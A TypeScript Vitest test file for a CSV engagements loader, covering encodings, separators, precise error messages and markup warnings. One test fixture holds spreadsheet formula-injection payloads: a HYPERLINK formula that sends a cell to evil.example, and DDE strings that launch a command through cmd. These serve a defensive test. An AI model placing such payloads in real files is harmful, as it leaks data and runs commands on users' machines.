import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { formatIssue, type Issue } from "../../src/errors.js";
import { parseInputs } from "../../src/inputs/load.js";
import { MAX_CELL_LENGTH } from "../../src/inputs/schemas.js";
import { inputFiles } from "../helpers.js";

const FIXTURES = "test/fixtures/inputs";

/** The inputs of the test helpers, with engagements.csv taken from a fixture (or given bytes). */
function load(engagements: string | Uint8Array, dateOrder: "DMY" | "MDY" | null = null) {
  const files = inputFiles({});
  files.engagements.bytes = typeof engagements === "string" ? readFileSync(join(FIXTURES, engagements)) : engagements;
  return parseInputs({ files, dateOrder });
}

describe("files as Excel and people write them ⇒ the same record", () => {
  it.each([
    "utf8.csv", "utf8-bom.csv", "utf16le-bom.csv", "utf16be-bom.csv", "windows-1252.csv",
    "semicolon.csv", "tab.csv", "crlf.csv", "headers-typed.csv", "excel-blank-rows.csv", "excel-sep-line.csv", "cr-only.csv",
  ])("accept/%s ⇒ no issue, text intact", (name) => {
    const { data, issues } = load(`accept/${name}`);
    expect(issues).toEqual([]);
    expect(data.engagements).toHaveLength(1);
    expect(data.engagements[0]).toMatchObject({
      id: "E1", startDate: "2025-02-11", endDate: "2025-02-12", title: "Visita de Víctor a Perú",
      partners: ["united-states", "peru"], topics: ["cybersecurity"], location: "Lima, Perú", summary: "Talks – “cyber” in Lima",
    });
  });

  it("accept/excel-sep-line.csv ⇒ lines counted from the sep= line", () => {
    expect(load("accept/excel-sep-line.csv").data.engagements[0]?.line).toBe(3);
  });

  it("accept/quoted-newlines.csv ⇒ line breaks and doubled quotes kept, next row on its own line", () => {
    const { data, issues } = load("accept/quoted-newlines.csv");
    expect(issues).toEqual([]);
    expect(data.engagements.map((e) => [e.line, e.summary])).toEqual([
      [2, 'First line\r\nsecond line with "quotes", and a comma'],
      [4, "plain"],
    ]);
  });

  it("accept/formula-text.csv ⇒ formulas kept as the text typed, extra column too", () => {
    const { data, issues } = load("accept/formula-text.csv");
    expect(issues).toEqual([]);
    expect(data.engagements[0]).toMatchObject({
      title: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      location: "@SUM(1+1)*cmd|' /C calc'!A0",
      summary: "+cmd|' /C calc'!A0",
      extra: { "Desk note": "-2+3" },
    });
  });
});

const longCell = new TextEncoder().encode(`id,start_date,title,partners,topics\nE1,2025-02-11,${"x".repeat(MAX_CELL_LENGTH + 1)},peru,space\n`);

describe("broken files ⇒ an error with file, line, column and a hint", () => {
  it.each<[string, string | Uint8Array, Partial<Issue>]>([
    ["unclosed quote", "refuse/unclosed-quote.csv", { line: 3, column: "title", code: "csv_syntax" }],
    ["too few values", "refuse/short-row.csv", { line: 3, column: "topics", code: "field_count" }],
    ["too many values", "refuse/long-row.csv", { line: 3, column: "column I", code: "field_count", value: "A talk" }],
    ["empty file", "refuse/empty.csv", { line: null, code: "file_empty" }],
    ["not text", "refuse/not-text.csv", { line: null, code: "file_binary" }],
    ["missing column", "refuse/missing-column.csv", { line: 1, column: "start_date", code: "column_missing" }],
    ["two columns, one name", "refuse/duplicate-column.csv", { line: 1, column: "start_date", code: "column_duplicate" }],
    ["duplicate id", "refuse/duplicate-id.csv", { line: 3, column: "id", code: "id_duplicate", message: 'the id "e1" is already used on line 2' }],
    ["unknown topic", "refuse/unknown-topic.csv", { line: 2, column: "topics", code: "reference_unknown", hint: 'did you mean "cybersecurity"?' }],
    ["unknown partner", "refuse/unknown-partner.csv", { line: 2, column: "partners", value: "Frence", code: "reference_unknown", hint: 'did you mean "france"?' }],
    ["impossible date", "refuse/impossible-date.csv", { line: 2, column: "start_date", code: "date_invalid", message: '"2025-02-30" is not a date' }],
    ["ambiguous date", "refuse/ambiguous-date.csv", { line: 2, column: "start_date", code: "date_ambiguous" }],
    ["end before start", "refuse/end-before-start.csv", { line: 2, column: "end_date", code: "date_order" }],
    ["javascript: link", "refuse/javascript-link.csv", { line: 2, column: "source_url", code: "url_invalid" }],
    ["file: link", "refuse/file-link.csv", { line: 2, column: "source_url", code: "url_invalid" }],
    ["kind outside the list", "refuse/unknown-kind.csv", { line: 2, column: "kind", value: "party", code: "value_invalid" }],
    ["kind misspelt", new TextEncoder().encode("id,start_date,title,partners,topics,kind\nE1,2025-02-11,T,peru,space,meting\n"), { column: "kind", hint: 'did you mean "meeting"?' }],
    ["status outside the list", "refuse/unknown-status.csv", { line: 2, column: "status", value: "done", code: "value_invalid", hint: "an empty cell means completed" }],
    ["cell over 32,767 characters", longCell, { line: 2, column: "title", code: "cell_too_long" }],
  ])("%s ⇒ error", (_, fixture, expected) => {
    const { issues } = load(fixture);
    const errors = issues.filter((issue) => issue.severity === "error");
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ file: "inputs/engagements.csv", severity: "error", ...expected });
    expect(errors[0]!.message).not.toMatch(/undefined|null|\[object/);
    expect(errors[0]!.code === "id_duplicate" || errors[0]!.hint !== null).toBe(true);
  });

  it.each(readdirSync(join(FIXTURES, "refuse")).sort())("refuse/%s ⇒ read as `file:line column: message` and a hint", (name) => {
    const [text] = load(`refuse/${name}`).issues.map(formatIssue);
    expect(text).toMatch(/^inputs\/engagements\.csv(:\d+ [^:]+)?: \S.*\n {4}hint: \S/);
    expect(text).not.toMatch(/undefined|null|\[object|CSV_|Invalid/);
  });

  it("an ambiguous date with the date order declared ⇒ read", () => {
    expect(load("refuse/ambiguous-date.csv", "MDY").data.engagements[0]?.startDate).toBe("2025-03-04");
  });

  it("the messages read as a person would write them", () => {
    const text = ["refuse/unclosed-quote.csv", "refuse/short-row.csv", "refuse/unknown-kind.csv"]
      .map((name) => load(name).issues.map(formatIssue).join("\n"))
      .join("\n");
    expect(text).toMatchInlineSnapshot(`
      "inputs/engagements.csv:3 title: a value opens a quote (") that is never closed, so the rest of the file reads as one value
          hint: close the quote at the end of the value, or remove it; a quote inside a quoted value is written twice ("")
      inputs/engagements.csv:3 topics: the row has 5 values but the header has 8 columns; the row stops before "topics"
          hint: values are separated by ","; add the missing ones (empty is fine: two "," in a row)
      inputs/engagements.csv:2 kind: "party" is not one of dialogue, visit, meeting, talks, exercise, workshop, other
          hint: an empty cell means other"
    `);
  });
});

describe("suspicious text ⇒ a warning, the row kept", () => {
  it.each<[string, Partial<Issue>]>([
    ["warn/markup.csv", { column: "location", value: "< td >", code: "markup_suspect" }],
    ["warn/garbled.csv", { column: "title", code: "encoding_suspect", value: "Visit to PerÃº" }],
  ])("%s ⇒ %o", (fixture, expected) => {
    const { data, issues } = load(fixture);
    expect(data.engagements).toHaveLength(1);
    expect(issues.every((issue) => issue.severity === "warning")).toBe(true);
    expect(issues[0]).toMatchObject({ line: 2, ...expected });
  });

  it("markup in two cells ⇒ one warning each", () => {
    expect(load("warn/markup.csv").issues.map((i) => `${i.column} ${i.value}`)).toEqual(["location < td >", "summary < strong >"]);
  });

  it.each(["<br/>", "<td class=\"x\">", "&nbsp;", "< / strong >"])("%j ⇒ markup warning", (text) => {
    const { issues } = load(new TextEncoder().encode(`id,start_date,title,partners,topics\nE1,2025-02-11,"a ${text.replaceAll('"', '""')} b",peru,space\n`));
    expect(issues).toMatchObject([{ code: "markup_suspect", severity: "warning", value: text }]);
  });

  it.each(["a < b and c > d", "Perú & France", "<3 years>", "Lima (Perú)"])("%j ⇒ no warning", (text) => {
    expect(load(new TextEncoder().encode(`id,start_date,title,partners,topics\nE1,2025-02-11,"${text}",peru,space\n`)).issues).toEqual([]);
  });
});
